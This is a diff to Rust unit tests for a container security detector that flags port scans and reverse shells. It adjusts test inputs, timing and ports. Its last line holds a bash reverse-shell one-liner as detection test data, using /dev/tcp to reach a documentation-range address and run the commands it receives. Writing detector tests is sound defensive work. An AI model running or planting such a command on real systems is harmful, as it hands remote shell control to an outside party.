@@ -1,3 +1,7 @@
+mod channels;
+mod contacts;
+mod programs;
+
 use crate::container::{Container, ContainerMetadata};
 use crate::detect::Severity;
 use crate::detect::testing::{SECOND, Scene, connect, container, end, scene};
@@ -82,7 +86,6 @@ fn loopback_itself_resolvers_gateway_and_answers_are_no_contact() {
         connect("172.17.0.2", 80),
         connect("172.17.0.1", 80),
         connect("8.8.8.8", 443),
-        send("172.17.0.3", 53),
         send("172.17.0.3", 40_123),
         send("239.1.1.1", 1900),
     ] {
@@ -181,12 +184,12 @@ fn a_sweep_is_one_behaviour_and_internal() {
 }
 
 #[test]
-fn slow_and_repeated_contacts_are_no_scan() {
-    let mut slow = app();
+fn rare_and_repeated_contacts_are_no_scan() {
+    let mut rare = app();
     for port in 1..=30 {
-        slow.now_ns += 2 * SECOND;
+        rare.now_ns += 50 * SECOND;
         assert!(
-            !slow
+            !rare
                 .rules(connect("10.1.1.1", port))
                 .contains(&"lateral.port_scan")
         );
@@ -234,7 +237,7 @@ fn a_shell_that_hands_itself_over() {
     let connected = |args: &str| {
         let mut scene = scene("acme/app", "/bin/bash");
         scene.exe.args = args.into();
-        first(&mut scene, connect("203.0.113.9", 4444)).map(|(rule, _)| rule)
+        first(&mut scene, connect("203.0.113.9", 443)).map(|(rule, _)| rule)
     };
     assert_eq!(connected("bash\0-i\0"), Some("lateral.reverse_shell"));
     let relayed = "bash\0-c\0exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l >&5; done\0";
